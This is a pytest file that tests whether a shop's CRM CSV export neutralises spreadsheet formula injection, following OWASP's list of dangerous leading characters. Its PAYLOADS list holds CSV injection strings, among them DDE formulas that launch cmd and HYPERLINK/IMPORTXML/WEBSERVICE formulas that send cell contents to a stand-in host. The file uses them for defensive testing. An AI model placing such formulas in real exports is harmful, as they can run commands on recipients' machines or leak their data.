"""M8: the list of OWASP's page "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection), through the real
command.

It names = + - @, tab (0x09), carriage return (0x0D), line feed (0x0A) and the wide forms of the first four (U+FF1D,
U+FF0B, U+FF0D, U+FF20), and warns of separators and quotes by which a text starts another cell. The contract's M8 names
the first six; the others are treated in the same way, since no number and no phone number starts with them.
"""

import csv
from pathlib import Path
from typing import Any

import pytest
from support.shop import Shop, person

LEADING = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
PAYLOADS = (
    "=1+2",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid?leak="&A1&A2,"Error: click here")',
    '=IMPORTXML(CONCAT("http://example.invalid?v=",CONCATENATE(A2:E2)),"//a/a10")',
    '=WEBSERVICE("http://example.invalid/"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "@WEBSERVICE(A1)",
)
HARMLESS = (
    "ann@x.com",
    "a=1",
    "1-2",
    "+49 (30) 123-45/67",
    "-12.50",
    "x+y",
    "\u00e9",
    "'=1",
    "http://x/?a=1",
    "0",
    " ",
)
INSIDE = ('x",=1+2', "x,=1+2", "x\n=1+2", "x\r\n=1+2", 'x"\n=1+2')  # what would start a cell if it were not quoted


def sent(folder: Path, texts: list[str], **options: Any) -> list[str]:
    """What a receiver reads of these texts, in their order."""
    shop = Shop(folder / "shop")
    shop.profiles("2026-11-20", [person(f"p{number:03}") | {"note": text} for number, text in enumerate(texts)])
    shop.audience("all", where="true")
    shop.crm(mapping=["profile_id", "note"], csv={"sanitize_formulas": True} | options)
    shop.evaluate("2026-11-20T02:00Z")
    shop.run("2026-11-20T05:00Z")
    [file] = shop.files("crm")
    delimiter, quote = options.get("delimiter", ","), options.get("quote", '"')
    with (shop.root / "out" / file).open(encoding="utf-8", newline="") as lines:
        rows = list(csv.reader(lines, delimiter=delimiter, quotechar=quote, strict=True))
    assert [row[0] for row in rows] == ["profile_id", *(f"p{number:03}" for number in range(len(texts)))]
    assert {len(row) for row in rows} == {2}, "no text starts another cell or row"
    return [row[1] for row in rows[1:]]


OPTIONS: dict[str, dict[str, Any]] = {
    "as it is": {},
    "always quoted": {"quote_style": "always"},
    "semicolon": {"delimiter": ";"},
    "other quote": {"quote": "'"},
    "tab": {"delimiter": "\t", "quote_style": "non_numeric"},
}


@pytest.mark.parametrize("options", OPTIONS)
def test_what_a_spreadsheet_would_run_is_text(tmp_path: Path, options: str) -> None:
    """M8: text that starts with one of OWASP's characters gets a ' in front, in every style; other text is as
    it was.
    """
    texts = [
        *LEADING,
        *(f"{mark}{rest}" for mark in LEADING for rest in ("A1", " 1", "cmd|'x'!A1", "=1", '"', ",", ";")),
        *PAYLOADS,
    ]
    assert sent(tmp_path, texts, **OPTIONS[options]) == [f"'{text}" for text in texts]


@pytest.mark.parametrize("options", OPTIONS)
def test_other_text_stays(tmp_path: Path, options: str) -> None:
    """M8: numbers, phone numbers, addresses and what only holds such a character stay, and stay in one cell."""
    texts = [*HARMLESS, *INSIDE]
    assert sent(tmp_path, texts, **OPTIONS[options]) == texts


def test_without_it_nothing_is_changed(tmp_path: Path) -> None:
    """M7: it is off by default, and then a receiver reads what was in the snapshot."""
    texts = [*LEADING, *PAYLOADS]
    assert sent(tmp_path, texts, sanitize_formulas=False) == texts
